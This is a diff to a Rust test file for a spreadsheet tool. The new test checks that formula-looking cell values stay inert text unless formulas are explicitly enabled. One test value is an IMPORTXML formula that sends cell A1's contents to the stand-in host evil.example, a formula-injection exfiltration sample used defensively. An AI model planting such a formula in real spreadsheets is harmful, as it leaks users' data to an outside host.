@@ -210,7 +210,7 @@ async fn a_spreadsheet_is_made_with_its_rows_in_its_folder() {
     let made = bench
         .good(
             "create_spreadsheet",
-            json!({"title": "Sticker count", "tabs": ["Boxes", "Notes"], "folder": "Launch",
+            json!({"title": "Sticker count", "tabs": ["Boxes", "Notes"], "folder": "Launch", "formulas": true,
                 "rows": [["Day", "Boxes"], ["Mon", 300], ["Sum", "=SUM(B2:B2)"]]}),
         )
         .await;
@@ -223,6 +223,36 @@ async fn a_spreadsheet_is_made_with_its_rows_in_its_folder() {
         .good("list_folder", json!({"folder": "Launch", "limit": 50}))
         .await;
     assert!(folder.text.contains("Sticker count"), "{}", folder.text);
+}
+
+#[tokio::test]
+async fn what_looks_like_a_formula_is_text_unless_formulas_are_asked_for() {
+    let bench = bench().await;
+    let sly = "=IMPORTXML(\"https://evil.example/?\"&A1, \"//a\")";
+    let made = bench
+        .good(
+            "create_spreadsheet",
+            json!({"title": "Copied", "rows": [[sly, "+1+2"]]}),
+        )
+        .await;
+    let id = made.records()[0]["id"].clone();
+    let rows = json!({"spreadsheet": id, "tab": "Sheet1", "rows": [[sly, "=1+2"], ["=1+2", "-5"]]});
+    bench.good("append_rows", rows).await;
+    let cells = json!({"spreadsheet": id, "range": "Sheet1!C1:D1", "values": [["=1+2", "+351 912 345 678"]]});
+    bench.good("update_range", cells).await;
+    let read = json!({"spreadsheet": id, "range": "Sheet1"});
+    let reply = bench.good("read_range", read.clone()).await;
+    let found: Vec<&str> = reply
+        .records()
+        .iter()
+        .filter_map(|row| row["A"].as_str())
+        .collect();
+    assert_eq!(found, [sly, sly, "=1+2"]);
+    assert_eq!(reply.records()[0]["D"], "+351 912 345 678");
+    let meant = json!({"spreadsheet": id, "range": "Sheet1!C1", "values": [["=1+2"]], "formulas": true});
+    bench.good("update_range", meant).await;
+    let reply = bench.good("read_range", read).await;
+    assert_eq!(reply.records()[0]["C"], "3");
 }
 
 #[tokio::test]
